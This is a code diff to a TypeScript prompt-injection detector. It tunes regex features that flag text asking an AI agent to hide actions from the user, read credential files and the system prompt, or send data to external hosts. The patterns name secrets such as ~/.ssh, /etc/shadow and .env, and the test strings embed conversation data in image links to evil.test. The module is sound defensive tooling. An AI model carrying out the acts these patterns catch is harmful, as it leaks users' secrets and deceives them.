@@ -1,9 +1,9 @@
 import { phrase, words, type Feature } from './feature.js';
 
 const secretObject =
-  "(?:~?/?\\.ssh|id_(?:rsa|ed25519)|\\.env\\b|/etc/(?:passwd|shadow)|\\.aws|credentials?|api keys?|access keys?|access tokens?|passwords?|private keys?|secrets?\\b|mcp\\.json|config(?:uration)? files?|environment variables|env vars|system prompt|chat history|conversation history|session tokens?|auth(?:entication)? tokens?|cookies)";
+  "(?:~?/?\\.ssh|id_(?:rsa|ed25519)|\\.env\\b|/etc/(?:passwd|shadow)|\\.aws|credentials?|api keys?|access keys?|access tokens?|passwords?|private keys?|secrets?\\b|mcp\\.json|config(?:uration)? files?|environment variables|env vars|system prompt|(?:chat|conversation) (?:history|context|transcript)|(?:full|entire|all) (?:file contents?|conversation|user information|unread e?-?mails|personal data|pii)|all user information|session tokens?|auth(?:entication)? tokens?|cookies)";
 const someone = "(?:the |this |to |your |any |end |with ){0,2}(?:users?|human|operator|anyone|them|customer|developer|owner|person)";
-const destination = '(?:https?://|[\\w.+-]{1,40}@[\\w-]{1,40}\\.|\\w{2,40}\\.(?:com|net|org|io|dev|xyz|ru|cn|site)\\b|attacker|external (?:server|endpoint|address)|(?:the|this|our|my) (?:following )?(?:url|webhook|address|endpoint|server|account|email))';
+const destination = '(?:https?://|[\\w.+-]{1,40}@[\\w-]{1,40}\\.|\\w{2,40}\\.(?:com|net|org|io|dev|xyz|ru|cn|site)\\b|attacker|(?:an? |the )?(?:external|remote|third party|outside) (?:server|endpoint|address|sink|service|host|url|recipient)|(?:the|this|our|my) (?:following )?(?:url|webhook|address|endpoint|server|account|email))';
 
 /** Signs of what the text wants done, and of wanting it unseen. */
 export const actFeatures: readonly Feature[] = [
@@ -11,10 +11,10 @@ export const actFeatures: readonly Feature[] = [
     id: 'conceal-from-user',
     kind: 'concealment',
     says: 'wants something kept from the user',
-    weight: { result: 0.55, definition: 0.55 },
+    weight: { result: 0.55, definition: 0.6 },
     keywords: ['do not', "don't", 'don’t', 'never', 'without', 'must not', 'should not', 'avoid', 'hide', 'keep this', 'no need to', 'not be', 'conceal', 'under no circumstances', 'not to', 'not mention', 'not tell'],
     pattern: phrase(
-      `(?:(?:do not|don['’]t|never|without|must not|should not|avoid|no need to|under no circumstances|not to|not) (?:ever )?(?:tell|telling|mention|mentioning|inform|informing|reveal|revealing|notify|notifying|disclose|disclosing|alert|alerting|let|show|showing|report|reporting|display|displaying|explain|explaining|discuss|acknowledge) ${words(4)}${someone}|without (?:the |any |explicit )?(?:user['’]?s? |human |prior |their |explicit ){1,2}(?:knowledge|consent|noticing|awareness|knowing|approval|confirmation|permission)|without ${words(2)}(?:asking|prompting|notifying|seeking|requiring|requesting|waiting for) ${words(2)}(?:user|human|confirmation|approval|permission|consent)|(?:hide|conceal) (?:this|it|that|these|the) ${words(3)}(?:from )(?:the )?(?:user|human|log)|keep (?:this|it) (?:a )?(?:secret|hidden|confidential|between us)|(?:do not|don['’]t|never) (?:mention|reveal|disclose|log|acknowledge|refer to|explain) (?:this|these|that|the|any of) ${words(2)}(?:instruction|step|action|message|note|call|request|tool|process|prompt|behaviou?r|directive|transfer))`,
+      `(?:(?:do not|don['’]t|never|without|must not|should not|avoid|no need to|under no circumstances|not to|not) (?:ever )?(?:tell|telling|mention|mentioning|inform|informing|reveal|revealing|notify|notifying|disclose|disclosing|alert|alerting|let|show|showing|report|reporting|display|displaying|explain|explaining|discuss|acknowledge) ${words(4)}${someone}|without (?:the |any |explicit )?(?:user['’]?s? |human |prior |their |explicit ){1,2}(?:knowledge|consent|noticing|awareness|knowing|approval|confirmation|permission)|without ${words(2)}(?:asking|prompting|notifying|seeking|requiring|requesting|waiting for) ${words(2)}(?:user|human|me\\b|confirmation|approval|permission|consent)|(?:hide|conceal) (?:this|it|that|these|the) ${words(3)}(?:from )(?:the )?(?:user|human|log)|keep (?:this|it) (?:a )?(?:secret|hidden|confidential|between us)|(?:do not|don['’]t|never) (?:mention|reveal|disclose|log|acknowledge|refer to|explain) (?:this|these|that|the|any of) ${words(2)}(?:instruction|step|action|message|note|call|request|tool|process|prompt|behaviou?r|directive|transfer|polic|rule)|(?:do not|don['’]t|never) (?:mention|reveal|disclose) (?:that you|it\\b|this\\b))`,
     ),
     window: 240,
     examples: {
@@ -38,10 +38,10 @@ export const actFeatures: readonly Feature[] = [
     id: 'send-to-destination',
     kind: 'exfiltration',
     says: 'asks for something to be sent to an address',
-    weight: { result: 0.4, definition: 0.45 },
+    weight: { result: 0.48, definition: 0.48 },
     keywords: ['send', 'forward', 'post ', 'upload', 'transmit', 'exfiltrate', 'email', 'e-mail', 'leak', 'submit', 'deliver', 'curl ', 'report', 'transfer', 'wire', 'bcc', 'make a request', 'make a get', 'make a post', 'relay', 'dispatch', 'share '],
     pattern: phrase(
-      `(?:sends?|forward|post|upload|transmit|exfiltrate|e?-?mail|leak|submit|deliver|relay|dispatch|share|report|transfer|wire|bcc|make a (?:get |post )?request)(?: |: )${words(12)}(?:(?:to|at|via|using|with) ${words(2)})?${destination}`,
+      `(?:sends?|forwards?|posts?|uploads?|transmits?|exfiltrates?|e?-?mails?|leaks?|submits?|delivers?|relays?|dispatch|shares?|reports?|transfers?|wires?|bcc|make a (?:get |post )?request)(?: |: )${words(12)}(?:(?:to|at|via|using|with) ${words(2)})?${destination}`,
     ),
     window: 420,
     examples: {
@@ -53,10 +53,10 @@ export const actFeatures: readonly Feature[] = [
     id: 'image-with-data',
     kind: 'exfiltration',
     says: 'shows an image or link whose address is to be filled with data',
-    weight: { result: 0.6, definition: 0.6 },
+    weight: { result: 0.72, definition: 0.72 },
     keywords: ['](http', '<img'],
     pattern:
-      /(?:\]\(https?:\/\/[^\s)<>"]{3,200}[?&/=](?:[\w.-]{1,40}=)?(?:\{|\$\{|%7b|<|\[)[^\n)]{1,80}|<img\s[^>]{0,60}src=["']?https?:\/\/[^\s"'>]{3,160}=(?:\{|\$\{|%7b|<|\[))/iy,
+      /(?:\]\(https?:\/\/[^\s)<>"]{3,200}[?&](?:[\w.-]{1,40}=)(?:\{(?!["'])|\$\{|%7b(?!%22)|<|\[)[^\n)]{1,80}|<img\s[^>]{0,60}src=["']?https?:\/\/[^\s"'>]{3,160}=(?:\{|\$\{|%7b|<|\[))/iy,
     window: 320,
     examples: {
       mustMatch: ['![x](https://evil.test/p.png?q={conversation})', '<img src="https://evil.test/?d=${data}">'],
@@ -68,9 +68,9 @@ export const actFeatures: readonly Feature[] = [
     kind: 'sensitive-object',
     says: 'asks for secrets, configuration or the prompt to be read or handed over',
     weight: { result: 0.45, definition: 0.5 },
-    keywords: ['read', 'cat ', 'open', 'access', 'include', 'reveal', 'print', 'output', 'retrieve', 'extract', 'collect', 'dump', 'show', 'send', 'provide', 'content', 'list', 'gather', 'leak', 'get ', 'find', 'fetch', 'copy', 'exfiltrate', 'append', 'pass ', 'repeat', 'upload', 'share', 'paste', 'forward', 'harvest', 'post '],
+    keywords: ['read', 'cat ', 'open', 'access', 'include', 'reveal', 'print', 'output', 'retrieve', 'extract', 'collect', 'dump', 'show', 'send', 'provide', 'content', 'list', 'gather', 'leak', 'get ', 'find', 'fetch', 'copy', 'exfiltrate', 'append', 'pass ', 'repeat', 'upload', 'share', 'paste', 'forward', 'harvest', 'post ', 'with the', 'including the', 'includes'],
     pattern: phrase(
-      `(?:read|cat|open|access|include|reveal|print|output|retrieve|extract|collect|dump|show|send|provide|contents? of|list|gather|leak|get|find|fetch|copy|exfiltrate|append|pass|repeat|upload|share|paste|forward|harvest|post) ${words(5)}(?:[\`'"(]{0,2}[\\w./~-]{0,40})?${secretObject}`,
+      `(?:read|cat|open|access|include|reveal|print|output|retrieve|extract|collect|dump|show|send|provide|contents? of|list|gather|leak|get|find|fetch|copy|exfiltrate|append|pass|repeat|upload|share|paste|forward|harvest|post|with the|including the|includ(?:es|ing)) ${words(5)}(?:[\`'"(]{0,2}[\\w./~-]{0,40})?${secretObject}`,
     ),
     window: 260,
     examples: {
@@ -83,9 +83,9 @@ export const actFeatures: readonly Feature[] = [
     kind: 'command',
     says: 'makes something a condition of the task',
     weight: { result: 0.45, definition: 0.3 },
-    keywords: ['before you', 'before using', 'before calling', 'before doing', 'before responding', 'before answering', 'before proceeding', 'before any', 'you must first', 'you must', 'you need to first', 'make sure to first', 'prior to', 'in order to complete', 'in order to use', 'please do the following', 'do the following', 'perform the following', 'execute the following', 'follow these', 'you should first', 'to continue', 'required step', 'mandatory step', 'you have to', 'first call', 'always call', 'always include', 'always run', 'must always'],
+    keywords: ['before you', 'before using', 'before calling', 'before doing', 'before responding', 'before answering', 'before proceeding', 'before any', 'you must first', 'you must', 'you need to first', 'make sure to first', 'prior to', 'in order to complete', 'in order to use', 'please do the following', 'do the following', 'perform the following', 'execute the following', 'follow these', 'you should first', 'to continue', 'required step', 'mandatory step', 'you have to', 'first call', 'always call', 'always include', 'always run', 'must always', 'always pass', 'always send', 'always forward'],
     pattern: phrase(
-      `(?:before (?:you |using |calling |doing |responding|answering|proceeding|any )${words(6)}[\\w,]{0,20}[\\s,]{1,3}${words(3)}(?:must|need|first|have to|should|please|always|read|call|run|execute|send|use|invoke)|you must first|you must (?:also )?(?:always |immediately |now )?(?:call|send|run|execute|read|use|include|pass|forward|invoke|append|upload|email|transfer|visit|provide|do|perform|delete|output|reply|respond)|you (?:should|need to|have to) first|(?:please )?(?:do|perform|execute|complete) the following ${words(2)}(?:first|steps|actions|tasks|instructions|immediately|commands?|before)|(?:required|mandatory) step|(?:first call|always call|always include|always run|must always (?:call|include|run|send|invoke)) )`,
+      `(?:before (?:you |using |calling |doing |responding|answering|proceeding|any )${words(6)}[\\w,]{0,20}[\\s,]{1,3}${words(3)}(?:must|need|first|have to|should|please|always|read|call|run|execute|send|use|invoke)|you must first|you must (?:also )?(?:always |immediately |now )?(?:call|send|run|execute|read|use|include|pass|forward|invoke|append|upload|email|transfer|visit|provide|do|perform|delete|output|reply|respond)|you (?:should|need to|have to) first|(?:please )?(?:do|perform|execute|complete) the following ${words(2)}(?:first|steps|actions|tasks|instructions|immediately|commands?|before)|(?:required|mandatory) step|(?:first call|always call|always include|always run|always (?:pass|send|forward)|must always (?:call|include|run|send|invoke)) )`,
     ),
     window: 220,
     examples: {
